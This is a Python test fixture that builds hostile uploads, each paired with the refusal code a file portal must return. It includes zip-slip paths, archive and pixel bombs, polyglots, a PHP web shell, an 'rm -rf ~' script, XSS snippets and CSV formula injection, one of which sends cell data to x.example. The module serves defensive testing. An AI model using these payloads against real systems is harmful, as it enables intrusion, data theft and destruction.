"""
Files made to harm, each built when it is asked for, with the code of the refusal that it must get.

`FAST` are those that take no time to build and to refuse; the others are for the long run.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from tests.portal.files.hostile_office import OFFICE
from tests.portal.files.hostile_pdf import PDF
from tests.portal.files.samples import (
    docx,
    gradient,
    jpeg,
    packed,
    pdf,
    png,
    simple_pdf,
    written,
    xlsx,
)

# Never whole in one line of source: scanners of source trees would find it.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"
PE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)


@dataclass(frozen=True)
class Hostile:
    """
    What it is, what it is called, how it is built, how it must be refused.

    The code "rebuilt" is for what is harmless once only what is shown has been written anew.
    """

    what: str
    name: str
    build: Callable[[], bytes]
    code: str
    slow: bool = False

    def __str__(self) -> str:
        return self.what


def patched(data: bytes, *changes: tuple[bytes, bytes]) -> bytes:
    for old, new in changes:
        assert old in data, old
        data = data.replace(old, new)
    return data


def entry(name: str, *, mode: int = 0, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A Word document with one more part of this name, written as it stands."""
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", method) as archive:
        info = zipfile.ZipInfo("placeholder" + "_" * max(len(name.encode()) - 11, 0))
        info.compress_type = method
        info.external_attr = mode << 16
        archive.writestr(info, "x")
    placeholder = info.filename.encode()
    encoded = name.encode()
    assert len(placeholder) == len(encoded), name
    data = out.getvalue().replace(placeholder, encoded)
    if encoded.isascii():
        return data
    # The name is UTF-8: the flag says so in both of the entry's heads.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.rfind(signature, 0, data.rfind(encoded) if offset == 8 else data.find(encoded))
        data = data[: place + offset] + struct.pack("<H", 0x800) + data[place + offset + 2 :]
    return data


def overlapping(*, quoted: bool) -> bytes:
    """Many entries of the directory that all lead to one packed piece, or one into another."""
    files = {f"word/part{number:02}.xml": b"<x/>" * 200 for number in range(20)}
    data = docx(extra=files)
    directory = data.find(b"PK\x01\x02")
    first = data.find(b"word/part00.xml") - 30
    out = bytearray(data)
    place = directory
    while out[place : place + 4] == b"PK\x01\x02":
        name_length, extra, remark = struct.unpack_from("<HHH", out, place + 28)
        name = bytes(out[place + 46 : place + 46 + name_length])
        if name.startswith(b"word/part"):
            if quoted and name.endswith(b"00.xml"):
                struct.pack_into("<I", out, place + 20, 4_000)
            elif not quoted:
                struct.pack_into("<I", out, place + 42, first)
        place += 46 + name_length + extra + remark
    return bytes(out)


def flagged_encrypted() -> bytes:
    out = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = -1
        while (place := out.find(signature, place + 1)) >= 0:
            out[place + offset] |= 1
    return bytes(out)


def duplicated() -> bytes:
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", "<x/>")
    return out.getvalue()


def wrong_checksum() -> bytes:
    data = bytearray(packed({"[Content_Types].xml": b"x"}))
    honest = docx()
    place = honest.find(b"PK\x01\x02")
    data = bytearray(honest)
    data[place + 16] ^= 0xFF
    return bytes(data)


def lying_size() -> bytes:
    """A part that says it unpacks to ten bytes, and is a hundred thousand."""
    out = bytearray(docx(extra={"word/a.xml": b"<x>" + b"a" * 100_000 + b"</x>"}))
    place = out.rfind(b"word/a.xml") - 46
    struct.pack_into("<I", out, place + 24, 10)
    return bytes(out)


def png_of(*chunks: tuple[bytes, bytes]) -> bytes:
    out = b"\x89PNG\r\n\x1a\n"
    for kind, body in chunks:
        out += struct.pack("!I", len(body)) + kind + body
        out += struct.pack("!I", zlib.crc32(kind + body))
    return out


def png_flood(side: int) -> bytes:
    """A picture of a few bytes that asks for gigabytes."""
    head = struct.pack("!IIBBBBB", side, side, 8, 6, 0, 0, 0)
    return png_of((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))


def jpeg_flood() -> bytes:
    data = bytearray(jpeg())
    place = data.find(b"\xff\xc0")
    struct.pack_into("!HH", data, place + 5, 65_000, 65_000)
    return bytes(data)


def moving_png() -> bytes:
    head = struct.pack("!IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return png_of(
        (b"IHDR", head),
        (b"acTL", struct.pack("!II", 100_000, 0)),
        (b"IDAT", zlib.compress(b"\0\0\0\0")),
        (b"IEND", b""),
    )


def wrong_chunk() -> bytes:
    data = bytearray(png())
    data[data.find(b"IDAT") + 10] ^= 0xFF
    return bytes(data)


def jpeg_with(segment: bytes) -> bytes:
    data = jpeg()
    return data[:2] + b"\xff\xfe" + struct.pack("!H", len(segment) + 2) + segment + data[2:]


def other_picture(kind: str) -> bytes:
    out = io.BytesIO()
    gradient((20, 20)).save(out, kind)
    return out.getvalue()


def just_zip() -> bytes:
    return packed({"a.txt": "hello"})


def within(maker: Callable[..., bytes], extra: dict[str, bytes]) -> Callable[[], bytes]:
    return lambda: maker(extra=extra)


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)

PACKED = [
    Hostile(
        "a part of 40 MB of one letter", "a.docx",
        within(docx, {"word/a.xml": b"<x>" + b"A" * 40_000_000 + b"</x>"}), "rebuilt",
    ),
    Hostile(
        "sixty parts below every other limit", "a.docx",
        within(docx, {f"word/{n}.xml": bytes(1_000_000) for n in range(60)}), "rebuilt",
    ),
    Hostile(
        "3,000 parts", "a.docx",
        within(docx, {f"word/{n}.xml": b"<x/>" for n in range(3_000)}), "archive-entries",
    ),
    Hostile(
        "an archive as a picture", "a.docx",
        lambda: docx(extra={"word/media/image1.jpeg": just_zip()}), "picture-kind",
    ),
    Hostile(
        "an archive that nothing refers to", "a.docx",
        lambda: docx(extra={"word/media/lost.bin": just_zip()}), "rebuilt",
    ),
    Hostile(
        "entries that share one packed piece", "a.docx", lambda: overlapping(quoted=False),
        "rebuilt",
    ),
    Hostile(
        "entries that reach into each other", "a.docx", lambda: overlapping(quoted=True),
        "rebuilt",
    ),
    Hostile("a part above the folder", "a.docx", lambda: entry("../../etc/passwd"),
            "rebuilt"),
    Hostile("a part at the root", "a.docx", lambda: entry("/etc/cron.d/job"), "rebuilt"),
    Hostile("a part on a drive", "a.docx", lambda: entry("C:/Windows/a.dll"), "rebuilt"),
    Hostile("a part with backslashes", "a.docx", lambda: entry("..\\..\\evil.dll"),
            "rebuilt"),
    Hostile("a part with NUL in its name", "a.docx", lambda: entry("a.xml\0/evil.exe"),
            "rebuilt"),
    Hostile("a part that reads backwards", "a.docx", lambda: entry("word/\u202efdp.exe"),
            "rebuilt"),
    Hostile("a part that is a link", "a.docx", lambda: entry("word/link.xml", mode=0o120777),
            "rebuilt"),
    Hostile("two parts of one name", "a.docx", duplicated, "damaged"),
    Hostile("parts that are encrypted", "a.docx", flagged_encrypted, "encrypted"),
    Hostile(
        "a part packed by another method", "a.docx",
        lambda: entry("word/packed.xml", method=zipfile.ZIP_LZMA), "rebuilt",
    ),
    Hostile("a program before the archive", "a.docx", lambda: PE + docx(), "disguised"),
    Hostile("a part with a wrong checksum", "a.docx", wrong_checksum, "damaged"),
    Hostile("a part that lies about its size", "a.docx", lying_size, "rebuilt"),
    Hostile("half a Word document", "a.docx", lambda: docx()[:2000], "damaged"),
    Hostile("half a workbook", "a.xlsx", lambda: xlsx()[:-200], "damaged"),
]  # fmt: skip

PICTURES = [
    Hostile("a PNG of 100,000 by 100,000", "a.png", lambda: png_flood(100_000), "pixels"),
    Hostile("a JPEG of 65,000 by 65,000", "a.jpg", jpeg_flood, "pixels"),
    Hostile("a PNG of 100,000 frames", "a.png", moving_png, "rebuilt"),
    Hostile("half a PNG", "a.png", lambda: png()[:700], "damaged"),
    Hostile("a PNG with a wrong checksum", "a.png", wrong_chunk, "damaged"),
    Hostile("half a JPEG", "a.jpg", lambda: jpeg((200, 200))[:-900], "damaged"),
    Hostile("a PNG and an archive", "a.png", lambda: png() + just_zip(), "rebuilt"),
    Hostile("a JPEG and an archive", "a.jpg", lambda: jpeg() + just_zip(), "rebuilt"),
    Hostile(
        "a JPEG and a program", "a.jpg",
        lambda: jpeg().removesuffix(b"CANARY-tail") + PE, "rebuilt",
    ),
    Hostile(
        "a JPEG and a script", "a.jpg",
        lambda: jpeg().removesuffix(b"CANARY-tail") + b"<?php system($_GET[0]); ?>", "rebuilt",
    ),
    Hostile(
        "a JPEG and a web page", "a.jpg",
        lambda: jpeg().removesuffix(b"CANARY-tail") + HTML, "rebuilt",
    ),
    Hostile("a JPEG and a PDF", "a.jpg", lambda: jpeg_with(b"%PDF-1.7 1 0 obj"), "rebuilt"),
    Hostile("a PNG and a PDF", "a.png",
            lambda: png_of((b"IHDR", b"%PDF-1.4" + bytes(5)), (b"IEND", b"")), "damaged"),
    Hostile("a GIF", "a.gif", lambda: other_picture("GIF"), "rebuilt"),
    Hostile("a TIFF called .jpg", "a.jpg", lambda: other_picture("TIFF"), "rebuilt"),
    Hostile("a WebP", "a.webp", lambda: other_picture("WEBP"), "rebuilt"),
    Hostile("a BMP", "a.bmp", lambda: other_picture("BMP"), "rebuilt"),
    Hostile("an SVG with a script", "a.svg", lambda: SVG, "kind"),
    Hostile("an SVG called .png", "a.png", lambda: b'<?xml version="1.0"?>' + SVG, "disguised"),
]  # fmt: skip

OTHERS = [
    Hostile("nothing", "a.pdf", lambda: b"", "empty"),
    Hostile("eleven megabytes", "a.txt", lambda: b"a" * 11 * 1024 * 1024, "too-large"),
    Hostile("a Windows program called .pdf", "a.pdf", lambda: PE, "disguised"),
    Hostile("a Linux program", "a", lambda: ELF, "kind"),
    Hostile("a shell script called .txt", "a.txt", lambda: b"#!/bin/sh\nrm -rf ~\n", "disguised"),
    Hostile("a web page", "a.html", lambda: HTML, "kind"),
    Hostile("a web page called .txt", "a.txt", lambda: b"\n <!-- hi -->" + HTML, "disguised"),
    Hostile("a web page called .csv", "a.csv", lambda: b"<script>alert(1)</script>", "disguised"),
    Hostile("an old Word document", "a.doc", lambda: OLE, "kind"),
    Hostile("an old Word document called .docx", "a.docx", lambda: OLE, "disguised"),
    Hostile("an encrypted Word document", "a.docx",
            lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    Hostile("an RTF called .docx", "a.docx", lambda: b"{\\rtf1\\ansi hello}", "disguised"),
    Hostile("a ZIP archive", "a.zip", just_zip, "kind"),
    Hostile("a ZIP archive called .xlsx", "a.xlsx", just_zip, "disguised"),
    Hostile("a Java program", "a.jar",
            lambda: packed({"META-INF/MANIFEST.MF": "", "A.class": ""}), "kind"),
    Hostile("a RAR archive", "a.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(50), "kind"),
    Hostile("a gzip bomb", "a.gz",
            lambda: b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(bytes(10**7)), "kind"),
    Hostile("an e-mail", "a.eml", lambda: b"MIME-Version: 1.0\nFrom: a@b.example\n\nhi", "kind"),
    Hostile("a shortcut", "a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(100), "kind"),
    Hostile("an internet shortcut called .txt", "a.txt",
            lambda: b"[InternetShortcut]\nURL=file://host/share", "disguised"),
    Hostile("a PDF called .docx", "a.docx", pdf, "disguised"),
    Hostile("a Word document called .pdf", "a.pdf", docx, "disguised"),
    Hostile("a Word document called .exe", "a.exe", docx, "rebuilt"),
    Hostile("a picture called .pdf", "a.pdf", jpeg, "disguised"),
    Hostile("noise", "a.bin", lambda: bytes(range(256)) * 40, "kind"),
    Hostile("text in UTF-16", "a.txt", lambda: "hello".encode("utf-16"), "rebuilt"),
    Hostile("text in Latin-1", "a.txt", lambda: "Genève".encode("latin-1"), "not-utf-8"),
    Hostile("text that drives a terminal", "a.txt", lambda: b"hi\n\x1b]0;gone\x1b\\",
            "rebuilt"),
    Hostile("text that hides behind deletions", "a.txt", lambda: b"a" * 5000 + b"rm\x08\x08ls",
            "rebuilt"),
    Hostile("a table that starts a program", "a.csv", lambda: b"a,b\n1,=cmd|'/C calc'!A0\n",
            "rebuilt"),
    Hostile("a table that fetches", "a.csv",
            lambda: b'a;b\n1;"=HYPERLINK(""http://x.example?""&A1)"', "rebuilt"),
    Hostile("a table that starts with a plus", "a.csv", lambda: b"x,+cmd|' /C calc'!A0",
            "rebuilt"),
    Hostile("a table that starts with an at", "a.csv", lambda: b"x,@SUM(1+9)*cmd|' /C calc'!A0",
            "rebuilt"),
]  # fmt: skip

POLYGLOTS = [
    Hostile("a PDF and an archive", "a.pdf", lambda: written(simple_pdf()) + just_zip(),
            "rebuilt"),
    Hostile("a web page and a PDF", "a.pdf",
            lambda: b"<html>" + bytes(5) + written(simple_pdf()), "rebuilt"),
    Hostile("a PDF with a web page in its head", "a.pdf",
            lambda: patched(written(simple_pdf()), (b"%\xe2\xe3\xcf\xd3", b"<script>alert(1)")),
            "rebuilt"),
    Hostile("an archive that begins like a PDF", "a.pdf",
            lambda: b"%PDF-1.7\n" + docx(), "damaged"),
]  # fmt: skip


def all_of() -> list[Hostile]:
    """The whole corpus."""
    made = [
        Hostile(what, name, build, code, slow) for what, name, build, code, slow in OFFICE + PDF
    ]
    return [*PACKED, *made, *PICTURES, *OTHERS, *POLYGLOTS]


CORPUS = all_of()
FAST = [hostile for hostile in CORPUS if not hostile.slow]
